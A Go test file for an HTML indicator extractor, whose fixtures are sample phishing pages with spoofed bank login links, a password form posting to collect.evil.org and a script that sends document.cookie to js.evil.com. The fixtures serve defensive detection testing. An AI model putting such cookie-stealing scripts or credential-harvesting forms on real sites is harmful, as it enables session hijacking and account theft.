package extract

import (
	"reflect"
	"testing"

	"golang.org/x/net/html/atom"
)

func TestFromHTML(t *testing.T) {
	for _, tc := range []struct {
		name string
		html string
		want []Observable
	}{{
		name: "link text differs from its target",
		html: `<html><head><title>Your account</title><style>.x{background:url(http://css.example.com/a.png)}</style></head>
<body><p>Dear customer, please <a href="https://secure-login.evil.com/kbc?id=1&amp;t=2">https://www.kbc.be/login</a>.</p>
<img src="http://tracker.evil.net/pixel.gif" alt="">
<!-- http://comment.example.org/ -->
<p>Questions? <a href="mailto:help@evil.com">help@kbc.be</a></p></body></html>`,
		want: obs("url:https://secure-login.evil.com/kbc?id=1&t=2", "domain:secure-login.evil.com",
			"url:https://www.kbc.be/login", "domain:www.kbc.be",
			"url:http://tracker.evil.net/pixel.gif", "domain:tracker.evil.net",
			"email:help@evil.com", "domain:evil.com", "email:help@kbc.be", "domain:kbc.be"),
	}, {
		name: "entities, inline elements and defanging",
		html: `<div>Visit evil<b>&#46;</b>com or hxxp://bad<span>[.]</span>org/x</div><div>next.org</div>`,
		want: obs("domain:evil.com", "url:http://bad.org/x", "domain:bad.org", "domain:next.org"),
	}, {
		name: "block elements keep words apart",
		html: `<p>example</p><p>com</p><table><tr><td>1.2.3.4</td><td>5</td></tr></table>`,
		want: obs("ip:1.2.3.4"),
	}, {
		name: "forms, frames and a meta refresh",
		html: `<meta http-equiv="refresh" content="0; url=http://redirect.evil.com/"><form action="https://collect.evil.org/post.php"><input type="password"></form><iframe src="//frame.evil.net/x"></iframe>`,
		want: obs("url:http://redirect.evil.com/", "domain:redirect.evil.com", "url:https://collect.evil.org/post.php", "domain:collect.evil.org", "domain:frame.evil.net"),
	}, {
		name: "scripts are read, never run",
		html: `<script>window.location = "https://js.evil.com/go?x=" + document.cookie;</script><p>ok</p>`,
		want: obs("url:https://js.evil.com/go?x=", "domain:js.evil.com"),
	}, {
		name: "broken HTML",
		html: `<a href="http://unclosed.evil.com/<p>text <b>www.bank.de`,
		want: nil,
	}} {
		t.Run(tc.name, func(t *testing.T) {
			if got := FromHTML(tc.html); !reflect.DeepEqual(got, tc.want) {
				t.Errorf("FromHTML:%s\nwant:%s", show(got), show(tc.want))
			}
		})
	}
}

func TestTagAtom(t *testing.T) {
	for raw, want := range map[string]atom.Atom{
		"<p>": atom.P, "</P>": atom.P, "<IMG SRC=x>": atom.Img, "<br/>": atom.Br, "<h1 class=x>": atom.H1,
		"<style>": atom.Style, "<x-custom>": 0, "<averyveryverylongname>": 0,
	} {
		if got := tagAtom([]byte(raw)); got != want {
			t.Errorf("tagAtom(%q) = %v, want %v", raw, got, want)
		}
	}
}

func TestMayHaveLink(t *testing.T) {
	for raw, want := range map[string]bool{
		`<a href="x">`: true, `<A HREF = "x">`: true, `<img class=x SRC=y>`: true, `<form action=/p>`: true,
		`<td background="x.png">`: true, `<meta http-equiv=refresh content="0;url=x">`: true,
		`<td style="color:red" width=10>`: false, `<p>`: false, `<div data-x="src">`: false, `<a name=href>`: false,
	} {
		if got := mayHaveLink([]byte(raw)); got != want {
			t.Errorf("mayHaveLink(%s) = %v", raw, got)
		}
	}
}
